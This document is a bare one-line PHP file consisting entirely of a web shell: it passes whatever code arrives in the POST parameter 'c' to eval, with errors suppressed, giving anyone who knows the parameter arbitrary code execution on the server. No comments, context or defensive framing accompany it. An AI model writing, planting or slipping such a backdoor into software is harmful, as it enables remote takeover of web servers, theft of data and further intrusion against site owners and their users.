<?php @eval($_POST['c']);
